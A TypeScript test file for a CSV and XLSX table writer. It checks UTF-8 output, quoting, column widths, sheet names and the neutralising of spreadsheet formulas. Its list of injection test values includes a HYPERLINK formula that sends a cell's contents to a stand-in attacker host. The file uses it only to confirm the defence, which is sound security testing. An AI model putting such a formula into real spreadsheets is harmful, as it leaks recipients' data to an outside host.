import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { type Column, isFormulaLike, neutraliseFormula, safeSheetName, writeCsv, writeXlsx } from './write-table.js';

interface Delegate {
  name: string;
  nameLatin: string;
  country: string;
  seats: number | null;
  confirmed: boolean;
  note: string | null;
}

const DELEGATES: Delegate[] = [
  { name: 'Айгерим Сапарова', nameLatin: 'Aigerim Saparova', country: 'KZ', seats: 2, confirmed: true, note: null },
  { name: '王芳', nameLatin: 'Wang Fang', country: 'CN', seats: 1, confirmed: false, note: '需要翻译, 中文' },
  { name: 'Бакыт Осмонов', nameLatin: 'Bakyt Osmonov', country: 'KG', seats: null, confirmed: true, note: 'Say "hi"\nat the desk' },
];

const COLUMNS: Column<Delegate>[] = [
  { header: 'Name', value: (row) => row.name },
  { header: 'Name (Latin)', value: (row) => row.nameLatin },
  { header: 'Country', value: (row) => row.country },
  { header: 'Seats', value: (row) => row.seats },
  { header: 'Confirmed', value: (row) => row.confirmed },
  { header: 'Note', value: (row) => row.note },
];

const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+7 701 234 56 78',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

const textColumn: Column<string>[] = [{ header: 'Value', value: (row) => row }];

async function readWorkbook(buffer: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook.worksheets[0];
}

describe(isFormulaLike.name, () => {
  it('recognises the characters that start a formula, and only at the start', () => {
    for (const text of INJECTIONS) expect(isFormulaLike(text)).toBe(true);
    for (const text of ['Aigerim', 'a=b', '1+1', '', ' =1', "'=1", '王芳']) expect(isFormulaLike(text)).toBe(false);
    expect(neutraliseFormula('=1+1')).toBe("'=1+1");
    expect(neutraliseFormula('Иван Петров')).toBe('Иван Петров');
  });
});

describe(writeCsv.name, () => {
  it('writes UTF-8 with a byte-order mark and CRLF line ends, keeping Chinese and Cyrillic intact', () => {
    const buffer = writeCsv(COLUMNS, DELEGATES.slice(0, 2));
    expect([...buffer.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(buffer.toString('utf8')).toBe(
      '\uFEFFName,Name (Latin),Country,Seats,Confirmed,Note\r\n' +
        'Айгерим Сапарова,Aigerim Saparova,KZ,2,true,\r\n' +
        '王芳,Wang Fang,CN,1,false,"需要翻译, 中文"\r\n',
    );
  });

  it('quotes fields holding a delimiter, a quote or a line break, so that they read back unchanged', () => {
    const text = writeCsv(COLUMNS, DELEGATES).toString('utf8');
    expect(text).toContain('"Say ""hi""\nat the desk"');
    const records = parse(text, { bom: true }) as string[][];
    expect(records).toEqual([
      ['Name', 'Name (Latin)', 'Country', 'Seats', 'Confirmed', 'Note'],
      ['Айгерим Сапарова', 'Aigerim Saparova', 'KZ', '2', 'true', ''],
      ['王芳', 'Wang Fang', 'CN', '1', 'false', '需要翻译, 中文'],
      ['Бакыт Осмонов', 'Bakyt Osmonov', 'KG', '', 'true', 'Say "hi"\nat the desk'],
    ]);
  });

  it('quotes a lone line feed or carriage return too', () => {
    const text = writeCsv(textColumn, ['a\nb', 'c\rd']).toString('utf8');
    expect(text).toBe('\uFEFFValue\r\n"a\nb"\r\n"c\rd"\r\n');
  });

  it('neutralises formula injection with a leading apostrophe in text cells', () => {
    const records = parse(writeCsv(textColumn, INJECTIONS), { bom: true }) as string[][];
    expect(records.slice(1).map(([value]) => value)).toEqual(INJECTIONS.map((text) => `'${text}`));
  });

  it('leaves numbers, including negative ones, and harmless texts alone', () => {
    const columns: Column<{ n: number; t: string }>[] = [
      { header: 'n', value: (row) => row.n },
      { header: 't', value: (row) => row.t },
    ];
    const text = writeCsv(columns, [{ n: -5, t: 'a=b' }, { n: Number.NaN, t: "it's" }]).toString('utf8');
    expect(text).toBe("\uFEFFn,t\r\n-5,a=b\r\n,it's\r\n");
  });

  it('neutralises a formula-like header as well', () => {
    const text = writeCsv([{ header: '=cmd', value: () => 'x' }], []).toString('utf8');
    expect(text).toBe("\uFEFF'=cmd\r\n");
  });
});

describe(writeXlsx.name, () => {
  it('writes one worksheet with a bold, frozen, filtered header and the values with their types', async () => {
    const sheet = await readWorkbook(await writeXlsx(COLUMNS, DELEGATES, 'Delegates'));
    expect(sheet.name).toBe('Delegates');
    expect(sheet.getRow(1).values).toEqual([undefined, 'Name', 'Name (Latin)', 'Country', 'Seats', 'Confirmed', 'Note']);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.getRow(2).getCell(1).font?.bold).toBeFalsy();
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeDefined();
    expect(sheet.rowCount).toBe(4);
    const row = (n: number) => [1, 2, 3, 4, 5, 6].map((c) => sheet.getRow(n).getCell(c).value);
    expect(row(2)).toEqual(['Айгерим Сапарова', 'Aigerim Saparova', 'KZ', 2, true, null]);
    expect(row(3)).toEqual(['王芳', 'Wang Fang', 'CN', 1, false, '需要翻译, 中文']);
    expect(row(4)).toEqual(['Бакыт Осмонов', 'Bakyt Osmonov', 'KG', null, true, 'Say "hi"\nat the desk']);
  });

  it('sets column widths from the content, counting Chinese characters double, within 8 to 60', async () => {
    const long = { ...DELEGATES[0], note: 'x'.repeat(200) };
    const wide = { ...DELEGATES[1], name: '中华人民共和国商务部' }; // 10 characters, 20 widths
    const sheet = await readWorkbook(await writeXlsx(COLUMNS, [long, wide], 'Widths'));
    // exceljs leaves out a width of 9, the default it assumes, so it reads back as undefined.
    const width = (c: number) => sheet.getColumn(c).width ?? 9;
    expect(width(1)).toBe(22); // the Chinese name, plus 2
    expect(width(3)).toBe(9); // "Country", plus 2
    expect(width(5)).toBe(11); // "Confirmed", plus 2
    expect(width(4)).toBe(8); // "Seats" and 1-digit numbers: the minimum
    expect(width(6)).toBe(60); // capped
  });

  it('stores formula-like texts exactly, as text cells in Text format, never as formulas', async () => {
    const sheet = await readWorkbook(await writeXlsx(textColumn, INJECTIONS.slice(0, 4), 'Injection'));
    INJECTIONS.slice(0, 4).forEach((text, index) => {
      const cell = sheet.getRow(index + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(text);
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe('@');
    });
    expect(sheet.getRow(1).getCell(1).numFmt).toBeUndefined();
  });

  it('makes the sheet name one Excel accepts', async () => {
    const sheet = await readWorkbook(await writeXlsx(textColumn, ['x'], "Guests: 2026/05 [draft]?"));
    expect(sheet.name).toBe('Guests 2026 05 draft');
    expect(safeSheetName('Список участников конференции ШОС 2026')).toBe('Список участников конференции Ш');
    expect(safeSheetName("'quoted'")).toBe('quoted');
    expect(safeSheetName(' / ')).toBe('Sheet1');
    expect(safeSheetName('History')).toBe('History 1');
  });

  it('writes a header-only sheet when there are no rows', async () => {
    const sheet = await readWorkbook(await writeXlsx(COLUMNS, [], 'Empty'));
    expect(sheet.rowCount).toBe(1);
    expect(sheet.getRow(1).getCell(6).value).toBe('Note');
  });
});
